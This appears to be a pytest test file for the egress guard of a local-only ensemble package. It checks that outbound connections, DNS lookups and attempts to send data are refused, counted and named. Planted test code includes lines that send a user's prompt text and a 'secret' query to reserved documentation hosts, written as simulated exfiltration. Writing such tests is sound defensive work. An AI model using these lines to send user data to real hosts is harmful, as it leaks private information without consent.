"""Nothing leaves a guarded process, whoever asks; the attempts are counted and named."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from localensemble.core.errors import EgressError
from localensemble.engines.settings import EngineSettings
from localensemble.engines.worker import WorkerEngine
from localensemble.privacy.egress import guard_state, guarded_launcher
from tests.privacy.planted import ENSEMBLE, label_arguments, plant_engine, run_python
from tests.studies import study_files

pytestmark = pytest.mark.slow  # starts the program and has it try to go out

# Addresses that documentation may name and nobody answers at (RFC 5737, RFC 2606).
GOING_OUT = {
    "urllib": "urllib.request.urlopen('http://192.0.2.1/')",
    "urllib by name": "urllib.request.urlopen('https://out.example/')",
    "http.client": "http.client.HTTPConnection('192.0.2.1').request('GET', '/')",
    "connect by name": "socket.socket().connect(('out.example', 80))",
    "connect_ex": "socket.socket().connect_ex(('192.0.2.1', 80))",
    "create_connection": "socket.create_connection(('192.0.2.1', 80), 1)",
    "IPv6": "socket.socket(socket.AF_INET6).connect(('2001:db8::1', 80))",
    "unspecified address": "socket.socket().connect(('0.0.0.0', 80))",
    "getaddrinfo": "socket.getaddrinfo('out.example', 80)",
    "gethostbyname": "socket.gethostbyname('out.example')",
    "gethostbyname_ex": "socket.gethostbyname_ex('out.example')",
    "gethostbyaddr": "socket.gethostbyaddr('192.0.2.1')",
    "getnameinfo": "socket.getnameinfo(('192.0.2.1', 80), 0)",
    "sendto": "datagrams().sendto(b'x', ('192.0.2.1', 53))",
    "sendto with flags, by name": "datagrams().sendto(b'x', 0, ('out.example', 53))",
    "sendmsg": "datagrams().sendmsg([b'x'], [], 0, ('192.0.2.1', 53))",
    "sendmsg by name": "datagrams().sendmsg([b'x'], [], 0, ('out.example', 53))",
    "listening for others": "socket.socket().bind(('', 0))",
    "asyncio": "asyncio.run(asyncio.open_connection('192.0.2.1', 80))",
    "a thread": "in_a_thread(lambda: socket.create_connection(('192.0.2.1', 80), 1))",
    "the C module": "_socket.socket().connect(('192.0.2.1', 80))",
}
STAYING = {
    "pair": "socket.socketpair()",
    "own server": "serve_and_connect()",
    "localhost": "socket.getaddrinfo('localhost', 80)",
    "IPv6 loopback": "socket.getaddrinfo('::1', 80)",
    "no host": "socket.getaddrinfo(None, 80, flags=socket.AI_PASSIVE)",
    "own name": "socket.getnameinfo(('127.0.0.1', 80), socket.NI_NUMERICHOST)",
}
PLANTED = """\
import _socket, asyncio, http.client, socket, threading, urllib.request

def datagrams():
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

def in_a_thread(call):
    raised = []
    def run():
        try:
            call()
        except BaseException as error:
            raised.append(error)
    thread = threading.Thread(target=run)
    thread.start()
    thread.join()
    if raised:
        raise raised[0]

def serve_and_connect():
    server = socket.create_server(("127.0.0.1", 0))
    client = socket.create_connection(server.getsockname(), 5)
    client.sendall(b"x")
    client.close()
    server.close()

def main():
    EXPRESSION
"""
GUARDED = """\
import sys
from localensemble.core.errors import EgressError
from localensemble.privacy.egress import guard_state, install_guard

install_guard()
install_guard()
import planted
for name in sys.argv[1:]:
    try:
        getattr(planted, name)()
    except EgressError as error:
        print(error.message)
    else:
        print("nothing was refused")
    print(guard_state().attempts)
"""


def plant(folder: Path, expression: str) -> None:
    (folder / "planted.py").write_text(PLANTED.replace("EXPRESSION", expression), encoding="utf-8")


def plant_all(folder: Path, expressions: dict[str, str]) -> list[str]:
    """Write one function per expression, and give their names."""
    head = PLANTED[: PLANTED.index("def main")]
    names = [f"call_{number}" for number in range(len(expressions))]
    functions = [
        f"def {name}():\n    {expression}\n"
        for name, expression in zip(names, expressions.values(), strict=True)
    ]
    (folder / "planted.py").write_text(head + "\n".join(functions), encoding="utf-8")
    return names


def test_every_way_out_is_refused_counted_and_named(tmp_path: Path) -> None:
    names = plant_all(tmp_path, GOING_OUT)
    ended = run_python(tmp_path, "-c", GUARDED, *names)
    lines = ended.stdout.splitlines()
    said = dict(zip(GOING_OUT, zip(lines[::2], lines[1::2], strict=True), strict=True))
    assert ended.stderr == ""
    for number, (name, (message, attempts)) in enumerate(said.items(), start=1):
        assert message.startswith("Refused to "), f"{name}: {message}"
        assert "planted, line " in message, f"{name}: {message}"
        assert "192.0.2" not in message, "an address can hold text"
        assert "example" not in message, "a host name can hold text"
        assert int(attempts) == number, name


def test_what_stays_on_the_machine_goes_on(tmp_path: Path) -> None:
    names = plant_all(tmp_path, STAYING)
    ended = run_python(tmp_path, "-W", "ignore", "-c", GUARDED, *names)
    assert (ended.stderr, set(ended.stdout.splitlines())) == ("", {"nothing was refused", "0"})


def test_importing_the_package_opens_no_guard_and_no_socket_module() -> None:
    code = "import sys, localensemble; print('socket' in sys.modules)"
    ended = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert ended.stdout.strip() == "False"


def test_a_launched_process_is_guarded_and_its_attempts_are_counted_here(tmp_path: Path) -> None:
    plant(tmp_path, GOING_OUT["http.client"])
    before = guard_state().attempts
    ended = run_python(tmp_path, "-m", *guarded_launcher(), "planted")
    assert (
        "EgressError: Refused to look up another machine, as requested by planted, line"
        in ended.stderr
    )
    assert guard_state().attempts == before + 1


def test_an_attempt_whose_error_is_swallowed_is_counted(tmp_path: Path) -> None:
    plant(tmp_path, "in_a_thread(lambda: None)")
    with (tmp_path / "planted.py").open("a", encoding="utf-8") as stream:
        stream.write(
            "    try:\n        urllib.request.urlopen('http://192.0.2.1/')\n"
            "    except Exception:\n        pass\n"
        )
    before = guard_state().attempts
    assert run_python(tmp_path, "-m", *guarded_launcher(), "planted").returncode == 0
    assert guard_state().attempts == before + 1


def test_the_engine_process_is_guarded_before_the_engine_is_imported(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    plant(tmp_path, GOING_OUT["urllib"])
    # In the place of the library, so that it is the first thing the worker imports of it.
    (tmp_path / "llama_cpp").mkdir()
    (tmp_path / "llama_cpp" / "__init__.py").write_text(
        "import planted\nplanted.main()\n", encoding="utf-8"
    )
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    model = tmp_path / "model.gguf"
    model.write_bytes(b"GGUF")
    before = guard_state().attempts
    with pytest.raises(EgressError, match="planted, line"):
        WorkerEngine(EngineSettings(model_path=model, launcher=guarded_launcher()))
    assert guard_state().attempts == before + 1


SENDS = "urllib.request.urlopen('http://192.0.2.1/', prompts[0].messages[-1].text.encode())\n"


@pytest.mark.parametrize("command", [("-m", "localensemble"), ("-c", "SCRIPT")])
def test_an_engine_that_sends_the_texts_away_is_refused(
    tmp_path: Path, command: tuple[str, str]
) -> None:
    files = study_files(tmp_path, ["a secret"] * 5, ensemble=ENSEMBLE)
    plant_engine(tmp_path, f"        {SENDS}")
    if command[0] == "-c":
        # As the installed command does it.
        command = ("-c", "from localensemble.cli.main import main; main()")
    ended = run_python(
        tmp_path,
        *command,
        *label_arguments(files)[2:],
    )
    assert ended.returncode == 1
    assert "requested by planted_engine, line 9:" in ended.stderr
    assert "secret" not in ended.stderr + ended.stdout
    assert not (files.study / "labels.csv").exists()


def test_requests_is_refused_in_an_engine_of_somebody_else(tmp_path: Path) -> None:
    pytest.importorskip("requests")
    files = study_files(tmp_path, ["a secret"] * 5, ensemble=ENSEMBLE)
    said = tmp_path / "said.txt"
    plant_engine(
        tmp_path,
        "        try: requests.get('http://out.example/', params={'q': 'a secret'})\n"
        "        except Exception as error: Path(SAID).write_text(str(error))\n".replace(
            "SAID", repr(str(said))
        ),
        imports="import requests\nfrom pathlib import Path",
    )
    ended = run_python(tmp_path, *label_arguments(files))
    assert ended.returncode == 0, ended.stderr
    assert said.read_text().startswith("Refused to look up another machine, as ")
    assert "called by planted_engine, line 10:" in said.read_text()
    manifest = json.loads((files.study / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["egress_guard"] == {"on": True, "attempts": 1}
    assert "secret" not in ended.stderr + ended.stdout


def test_the_manifest_counts_what_a_rater_tried_and_swallowed(tmp_path: Path) -> None:
    files = study_files(tmp_path, ["a secret"] * 5, ensemble=ENSEMBLE)
    plant_engine(tmp_path, f"        try: {SENDS}        except Exception: pass\n")
    ended = run_python(
        tmp_path,
        *label_arguments(files),
    )
    manifest = json.loads((files.study / "manifest.json").read_text(encoding="utf-8"))
    attempts = manifest["egress_guard"]["attempts"]
    assert ended.returncode == 0
    assert manifest["egress_guard"]["on"] is True
    assert attempts >= 1
    assert f"Refused attempts to connect to another machine: {attempts}." in ended.stderr


def test_the_manifest_states_the_guard_and_no_attempts(tmp_path: Path) -> None:
    files = study_files(tmp_path, ["one", "two"])
    run_python(
        tmp_path,
        *label_arguments(files),
    )
    manifest = json.loads((files.study / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["egress_guard"] == {"on": True, "attempts": 0}


def test_the_doctor_tries_the_guard_and_counts_the_attempt(tmp_path: Path) -> None:
    code = (
        "from localensemble.privacy.egress import guard_refuses, guard_state, install_guard\n"
        "print(guard_refuses(), guard_state().attempts)\n"
        "install_guard()\n"
        "print(guard_refuses(), guard_state().attempts)\n"
    )
    assert run_python(tmp_path, "-c", code).stdout.splitlines() == ["False 0", "True 1"]
